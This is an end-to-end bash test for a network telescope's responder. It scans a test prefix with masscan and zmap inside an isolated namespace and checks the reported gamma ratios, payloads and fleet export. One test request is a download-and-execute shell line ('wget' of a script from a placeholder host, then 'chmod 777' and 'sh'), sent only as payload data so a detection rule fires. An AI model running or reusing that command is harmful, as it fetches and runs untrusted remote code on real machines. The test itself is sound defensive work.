#!/usr/bin/env bash
# SPDX-License-Identifier: BSD-3-Clause
# resp_gamma.sh OBSCURA_DP OBSCURA_CP OBSCURACTL
#
# The responder end to end (issue 13, SPEC A11): obscura-dp on net_af_packet on one end of
# a veth pair in a private network namespace, obscura-cp draining its exchange, real
# clients on the other end.  The telescope D is 198.18.1.0/29 (8 addresses), the
# responder H its first /30 (4 addresses, threshold ceil(4/2) = 2).  From block
# 192.0.0.0/16 (L = 16):
#   - masscan (192.0.2.11) scans all of D on ports 1001-1010 and zmap (192.0.2.10) on port
#     1011: SYN-ACKs come back, they answer RST, nothing is a session;
#   - the kernel's TCP stack (192.0.2.10) connects on each of those ports to a chosen
#     number of the addresses of H (0 to 4) and sends a request that a shipped rule
#     matches.
# The test computes on its own, from the capture of every frame on the client side and
# from what its client did: P_t(A) = the ports whose SYNs reached >= 0.8 |D| addresses of D,
# and the ports of P_t(A) where its client completed handshakes (connected, request sent,
# RST received) with >= 2 addresses of H.  `scan list --periods` must give exactly that
# |P_t(A)|, that number of application-layer scanned ports and their ratio as gamma;
# `scan show --payloads` the client's request; `stats` the sessions and no more.
# The appliance exports to a clickhouse-server of the test's own on loopback
# (tests/cp/chlib.py serve); an `obscura-cp --fleet` on that database (control/fleet.c,
# docs/export.md "Fleet") must answer `scan list --periods` (gamma, app_ports) and
# `scan show --payloads` exactly as the appliance did, from obscura_resp_sessions and
# obscura_resp_periods.
# Traffic never leaves the namespace.
set -uo pipefail
here=$(cd "$(dirname "$0")" && pwd)
. "$here/lib.sh"   # $py, $src, e2e_setup, fail, start_cp, stop_cp, conf_*
e2e_setup resp-gamma dp cp ctl -- "$@"
NS=ns-resp-g-$$ IFA=rga$$ IFB=rgb$$
dpid= tcpd= chpid=
cleanup() {
	for p in $dpid $tcpd; do kill -KILL "$p" 2>/dev/null; done
	ip netns del "$NS" 2>/dev/null
	[ -n "$cp_pid" ] && kill "$cp_pid" 2>/dev/null && wait "$cp_pid" 2>/dev/null; cp_pid=
	[ -n "$chpid" ] && kill -TERM "$chpid" 2>/dev/null && wait "$chpid" 2>/dev/null
	e2e_cleanup
}
trap cleanup EXIT
trap "exit 1" INT TERM   # a timeout (meson, timeout(1)) still runs cleanup: no namespace left
nsx() { ip netns exec "$NS" "$@"; }
step() { echo "# $(date -u +%T) $*"; }

[ "$(id -u)" -eq 0 ] || fail "needs root (network namespace, veth)"
for p in masscan zmap tcpdump; do
	command -v $p >/dev/null || fail "$p missing (deploy/setup installs it)"
done
"$py" -c 'import scapy' 2>/dev/null || fail "$py has no scapy"
ip netns add "$NS" || fail "ip netns add"
nsx sysctl -qw net.ipv6.conf.all.disable_ipv6=1
nsx sysctl -qw net.ipv6.conf.default.disable_ipv6=1
nsx ip link add "$IFA" type veth peer name "$IFB" || fail "kernel without veth"
nsx ip link set "$IFA" up && nsx ip link set "$IFB" up || fail "link up"
nsx ip addr add 192.0.2.10/24 dev "$IFB" || fail "address"
nsx ip route add 198.18.1.0/29 dev "$IFB" || fail "route to the telescope"
MACA=$(nsx cat /sys/class/net/"$IFA"/address)

conf() {   # conf DIR PORTS_YAML [EXPORT_YAML]
	mkdir -p "$1/state"
	cat >"$1/obscura.yaml" <<EOF
$(conf_dataplane 1 "$prefix-$(basename "$1")")
$2
telescope:
  sensors:
    - name: east
      prefixes: [198.18.1.0/29]
exchange:
  path: $1/exchange
  epoch_ms: 200
  drain_wait_s: 5
  resp_capacity: 4096
$(conf_control "$1")
analysis:
  period: month
rules:
  files: [$src/conf/rules/obscura.rules]
responder:
  prefixes: [198.18.1.0/30]
  payload_bytes: 64
  max_pps: 5000
  secret_file: $tmp/secret
${3:-}
EOF
}
head -c 32 /dev/urandom >"$tmp/secret"
step "clickhouse-server on loopback: the appliance exports to it, a fleet reads it"
"$py" "$src/tests/cp/chlib.py" serve "$tmp/ch" "$tmp/ch.url" >"$tmp/chserve.log" 2>&1 &
chpid=$!
for _ in $(seq 600); do
	[ -s "$tmp/ch.url" ] && break
	kill -0 "$chpid" 2>/dev/null || fail "clickhouse-server did not start"
	sleep 0.1
done
[ -s "$tmp/ch.url" ] || fail "clickhouse-server not up within 60 s"
export_yaml="export:
  clickhouse:
    url: $(cat "$tmp/ch.url")
    database: obs_resp
    appliance: resp-gamma"
d=$tmp/run
conf "$d" "  ports:
    - name: veth
      device: \"net_af_packet0,iface=$IFA\"" "$export_yaml"
ctl() { "$ctl" -t 60 -c "$d/obscura.yaml" "$@"; }   # $d: the run at hand

step "obscura-cp, then obscura-dp in the namespace"
start_cp "$d"
# ip netns exec execs obscura-dp: $! is its pid (SIGTERM reaches it)
ip netns exec "$NS" "$dp" -c "$d/obscura.yaml" >"$d/dp.log" 2>&1 &
dpid=$!
for _ in $(seq 300); do
	grep -q "running:" "$d/dp.log" && break
	kill -0 "$dpid" 2>/dev/null || fail "obscura-dp died at start"
	sleep 0.1
done
grep -q "running:" "$d/dp.log" || fail "obscura-dp not running after 30 s"
ip netns exec "$NS" tcpdump -i "$IFB" -nn -s 0 -U -w "$tmp/client.pcap" >"$tmp/tcpdump.log" 2>&1 &
tcpd=$!
sleep 1

step "masscan: D x ports 1001-1010 (SYN-only)"
# masscan 1.3.2 may keep waiting past --wait in a namespace: stopped after 15 s; what it
# did is read from the capture
nsx timeout -s INT -k 5 15 masscan 198.18.1.0/29 -p 1001-1010 --rate 300 -e "$IFB" \
	--source-ip 192.0.2.11 --router-mac "$MACA" --wait 2 >"$tmp/masscan.out" 2>&1
tr '\r' '\n' <"$tmp/masscan.out" | grep -v '^rate:' >"$tmp/masscan.log"
step "zmap: D x port 1011 (SYN-only)"
: >"$tmp/zmap-bl.txt"
nsx timeout 60 zmap -p 1011 -i "$IFB" -G "$MACA" -S 192.0.2.10 -r 200 -b "$tmp/zmap-bl.txt" \
	-c 2 -q -o "$tmp/zmap.txt" 198.18.1.0/29 >"$tmp/zmap.log" 2>&1 || fail "zmap"

step "kernel clients: port 1001+i to k[i] addresses of H, a request each"
nsx timeout 120 "$py" - "$tmp/clients.json" >"$tmp/clients.log" 2>&1 <<'EOF' || fail "kernel clients"
import json, socket, sys, time
H = ["198.18.1.0", "198.18.1.1", "198.18.1.2", "198.18.1.3"]
K = [4, 3, 2, 1, 0, 4, 2, 1, 0, 2, 3]          # ports 1001..1011
REQ = b"cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; sh x.sh\r\n"
res = []
for i, k in enumerate(K):
    for a in H[:k]:
        r = {"dst": a, "dport": 1001 + i, "done": False}
        s = socket.socket()
        s.settimeout(5)
        try:
            s.connect((a, 1001 + i))
            s.sendall(REQ)
            try:
                s.recv(100)
                r["end"] = "data"
            except ConnectionResetError:
                r["end"] = "rst"
                r["done"] = True
        except Exception as e:
            r["error"] = repr(e)
        s.close()
        res.append(r)
        time.sleep(0.02)
json.dump({"req_hex": REQ.hex(), "conns": res}, open(sys.argv[1], "w"))
print(len(res), "connections,", sum(r["done"] for r in res), "completed and reset")
EOF
cat "$tmp/clients.log"
ctl --json status >"$tmp/status-live.json" 2>>"$tmp/ctl.log" || fail "status"
"$py" - "$tmp/status-live.json" <<'EOF' || fail "status: the responder while live"
import json, sys
r = json.load(open(sys.argv[1]))["dp"]["responder"]
print("status (live):", r)
assert r["on"] and r["transmitting"] and r["arp"] and r["addresses"] == 4, r
EOF
sleep 1
kill -TERM "$tcpd"; wait "$tcpd"; tcpd=
step "stop obscura-dp; obscura-cp drains its last epochs"
kill -TERM "$dpid"; wait "$dpid"; rc=$?; dpid=
[ "$rc" = 0 ] || fail "obscura-dp exit $rc after SIGTERM"

want_sessions=$("$py" -c 'import json,sys; print(sum(r["done"] for r in json.load(open(sys.argv[1]))["conns"]))' "$tmp/clients.json")
for _ in $(seq 100); do
	ctl --json stats >"$tmp/stats.json" 2>>"$tmp/ctl.log" || fail "obscuractl stats"
	got=$("$py" -c '
import json, sys
def find(o):
    if isinstance(o, dict):
        if "responder" in o and isinstance(o["responder"], dict) and "sessions" in o["responder"]:
            return o["responder"]["sessions"]
        for v in o.values():
            r = find(v)
            if r is not None: return r
print(find(json.load(open(sys.argv[1]))))' "$tmp/stats.json")
	[ "$got" = "$want_sessions" ] && break
	sleep 0.2
done
echo "sessions in stats: $got, the client completed $want_sessions"
[ "$got" = "$want_sessions" ] || fail "stats responder.sessions $got, want $want_sessions"

ctl --json scan list --all --periods --n 5 --m 1 >"$tmp/list.json" 2>>"$tmp/ctl.log" || fail "scan list"
ctl --json scan show 192.0.0.0/16 --payloads --n 5 --m 1 >"$tmp/show.json" 2>>"$tmp/ctl.log" \
	|| fail "scan show --payloads"
step "the expectation, from the capture and the client's own record"
"$py" - "$tmp/client.pcap" "$tmp/clients.json" "$tmp/list.json" "$tmp/show.json" "$tmp/stats.json" <<'EOF' || fail "gamma"
import ipaddress, json, math, sys
from scapy.all import PcapReader, IP, TCP
pcap, clients, lst, show, stats = sys.argv[1:6]
D = [str(a) for a in ipaddress.ip_network("198.18.1.0/29")]
H = [str(a) for a in ipaddress.ip_network("198.18.1.0/30")]
A = ipaddress.ip_network("192.0.0.0/16")
reach, sa, rst, ack_to = {}, set(), set(), set()
for p in PcapReader(pcap):
    if IP not in p or TCP not in p:
        continue
    ip, t = p[IP], p[TCP]
    f = int(t.flags)
    if ipaddress.ip_address(ip.src) in A and ip.dst in D and f & 0x12 == 0x02:
        reach.setdefault(t.dport, set()).add(ip.dst)
    if ip.src in H and f & 0x12 == 0x12:
        sa.add((ip.dst, ip.src, t.sport))
    if ip.src == "192.0.2.11" and f & 0x04:
        rst.add((ip.src, ip.dst, t.dport))
    if ip.src == "192.0.2.11" and f & 0x10 and not f & 0x04:
        ack_to.add((ip.dst, t.dport))
P = sorted(p for p, s in reach.items() if len(s) / len(D) >= 0.8)
conns = json.load(open(clients))["conns"]
done = {}
for c in conns:
    if c["done"]:
        done.setdefault(c["dport"], set()).add(c["dst"])
thr = math.ceil(len(H) / 2)
app = [p for p in P if len(done.get(p, ())) >= thr]
print("P_t(A) =", P, "| app-layer scanned:", app, "| per port:",
      {p: len(done.get(p, ())) for p in P})
# masscan got a SYN-ACK from every address of H on its 10 ports and answered each by RST,
# never by an ACK
m_sa = {(a, p) for (d, a, p) in sa if d == "192.0.2.11"}
m_rst = {(a, p) for (s, a, p) in rst}
assert len(m_sa) == 40 and m_sa == m_rst and not ack_to, (len(m_sa), len(m_rst), ack_to)
assert len(P) == 11 and app, "the scans did not make the port set this test is about"
rows = [r for r in json.load(open(lst))["blocks"] if r["block"] == "192.0.0.0/16"]
assert len(rows) == 1, rows
per = rows[0]["periods"]
assert len(per) == 1, per
got = per[0]
print("scan list:", {k: got[k] for k in ("period", "n_ports", "gamma", "app_ports")})
assert got["ports"] == P or sorted(got["ports"]) == P, (got["ports"], P)
assert got["n_ports"] == len(P) and got["app_ports"] == len(app), got
assert got["gamma"] is not None and abs(got["gamma"] - len(app) / len(P)) < 1e-9, got
assert rows[0]["gamma_ports"] == len(P) and rows[0]["gamma_app_ports"] == len(app), rows[0]
sh = json.load(open(show))
pl = {x["port"]: x for x in sh.get("payloads", [])}
req = bytes.fromhex(json.load(open(clients))["req_hex"])
for p in done:
    assert p in pl, ("no payload kept for port", p, sorted(pl))
    for y in pl[p]["payloads"]:
        assert bytes.fromhex(y["hex"]) == req[:64] and y["sid"] == 1000503, y
print("gamma", got["gamma"], "=", len(app), "/", len(P), "; payloads on", sorted(pl))
EOF

step "the export drains; a fleet on its database answers as the appliance"
for _ in $(seq 600); do
	ctl --json status >"$tmp/status-export.json" 2>>"$tmp/ctl.log" || fail "status (export)"
	"$py" -c '
import json, sys
x = json.load(open(sys.argv[1]))["export"]
sys.exit(0 if x["spool_files"] == 0 and x["batches_sent"] > 0 and x["state"] == "ok" else 1)' \
		"$tmp/status-export.json" && break
	sleep 0.2
done
stop_cp
d=$tmp/fleet
conf "$d" "  ports: []" "$export_yaml"
start_cp "$d" --fleet
ctl --json status >"$tmp/status-fleet.json" 2>>"$tmp/ctl.log" || fail "status (fleet)"
ctl --json scan list --all --periods --n 5 --m 1 >"$tmp/list-fleet.json" 2>>"$tmp/ctl.log" \
	|| fail "scan list (fleet)"
ctl --json scan show 192.0.0.0/16 --payloads --n 5 --m 1 >"$tmp/show-fleet.json" 2>>"$tmp/ctl.log" \
	|| fail "scan show --payloads (fleet)"
"$py" - "$tmp" "$src/tests/e2e" <<'EOF' || fail "the fleet's gamma or payloads differ from the appliance's"
import json, sys
t = sys.argv[1]
sys.path.insert(0, sys.argv[2])
from jsoncmp import diff
x = json.load(open(t + "/status-export.json"))["export"]
assert x["spool_files"] == 0 and x["batches_sent"] > 0 and x["state"] == "ok", x
f = json.load(open(t + "/status-fleet.json"))["fleet"]
print("fleet:", f)
assert f["appliances"] == 1 and f["tables_missing"] == 0 and f["resp_h_mismatch"] == 0 \
    and f["rows_bad"] == 0 and f["rows_without_epoch"] == 0, f
# the appliance's own bookkeeping (as in fleet_truth.py)
META = {"epochs", "overlap_epochs", "boots", "forced_swaps", "computed_at", "job",
        "elapsed_ms", "appliances", "memory_bytes"}
def strip(v):
    if isinstance(v, dict):
        return {k: strip(y) for k, y in v.items() if k not in META}
    if isinstance(v, list):
        return [strip(y) for y in v]
    return v
for what in ("list", "show"):
    a, b = json.load(open("%s/%s.json" % (t, what))), json.load(open("%s/%s-fleet.json" % (t, what)))
    r = diff(strip(a), strip(b), names=("the appliance", "the fleet"))
    assert r is None, "scan %s: %s" % (what, r)
b = [r for r in json.load(open(t + "/list-fleet.json"))["blocks"] if r["block"] == "192.0.0.0/16"][0]
p = b["periods"][0]
pl = json.load(open(t + "/show-fleet.json")).get("payloads", [])
assert p["gamma"] is not None and p["app_ports"] > 0 and pl, (p, pl)
print("fleet: gamma", p["gamma"], "=", p["app_ports"], "/", p["n_ports"], "and the payloads of",
      len(pl), "ports: equal to the appliance's")
EOF
stop_cp

step "replay of the client capture with the responder configured: nothing transmitted, gamma null"
d=$tmp/replay
conf "$d" "  ports: []"
start_cp "$d"
timeout 120 "$dp" -c "$d/obscura.yaml" --replay "$tmp/client.pcap" --drain-timeout 30 \
	>"$d/dp.log" 2>&1 || fail "obscura-dp --replay exit $?"
grep -q "nothing is transmitted" "$d/dp.log" || fail "replay: no notice that nothing is transmitted"
ctl --json status >"$tmp/status-replay.json" 2>>"$tmp/ctl.log" || fail "status (replay)"
ctl --json scan list --all --periods --n 5 --m 1 >"$tmp/list-replay.json" 2>>"$tmp/ctl.log" \
	|| fail "scan list (replay)"
"$py" - "$tmp/status-replay.json" "$tmp/list-replay.json" <<'EOF' || fail "replay checks"
import json, sys
r = json.load(open(sys.argv[1]))["dp"]["responder"]
print("status (replay):", r)
assert r["on"] and not r["transmitting"] and "replay" in r["note"], r
rows = [b for b in json.load(open(sys.argv[2]))["blocks"] if b["block"] == "192.0.0.0/16"]
assert len(rows) == 1 and rows[0]["periods"], rows
p = rows[0]["periods"][0]
print("scan list (replay):", {k: p[k] for k in ("period", "n_ports", "gamma", "app_ports")})
assert p["n_ports"] == 11 and p["gamma"] is None and p["app_ports"] is None, p
assert rows[0]["gamma"] is None, rows[0]
EOF
stop_cp
echo PASS
